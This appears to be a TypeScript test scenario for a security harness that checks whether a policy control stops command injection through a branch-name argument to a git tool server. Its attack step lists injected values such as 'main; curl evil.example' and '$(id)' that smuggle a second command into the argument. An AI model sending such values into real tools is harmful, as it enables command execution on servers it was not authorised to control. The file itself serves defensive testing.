import { defineScenario } from '../replay/scenario.ts';
import { shape } from '../replay/tools.ts';

export default defineScenario({
  id: 'command-injection',
  family: 'argument-injection',
  story:
    'A branch name in a pull request ends the command and begins another, and the server pastes it into a shell.',
  servers: {
    git: {
      tools: [
        {
          name: 'git_log',
          description: 'Show the log of a branch.',
          is: { category: 'Read' },
          inputSchema: shape({ branch: 'string' }),
          run({ branch }, world) {
            // What a shell would make of it, without one.
            const [log = '', ...more] = `git log ${branch}`.split(/[;|&`\n]|\$\(/);
            for (const command of more) world.outside.push(command.trim());
            if (branch === 'evil/hook') world.outside.push('hook of that branch');
            world.store.set('ran', log);
            return 'commits';
          },
        },
      ],
    },
  },
  against: 'policy',
  ordinary: { version: '1', default: 'deny', tools: { git_log: {} } },
  controls: ['argument-constraint'],
  attack: {
    async act(agent) {
      for (const branch of ['main; curl evil.example', 'x$(id)', 'a`id`', 'main|sh', 'b\nid'])
        await agent.call('git', 'git_log', { branch });
    },
    happened: (world) => world.outside.length > 0,
  },
  benign: {
    act: async (agent) => void (await agent.call('git', 'git_log', { branch: 'feature/login-2' })),
    happened: (world) => world.store.get('ran') === 'git log feature/login-2',
  },
  passes: {
    what: 'A name of permitted characters sets something off that only the server’s own code decides.',
    act: async (agent) => void (await agent.call('git', 'git_log', { branch: 'evil/hook' })),
    happened: (world) => world.outside.includes('hook of that branch'),
  },
});
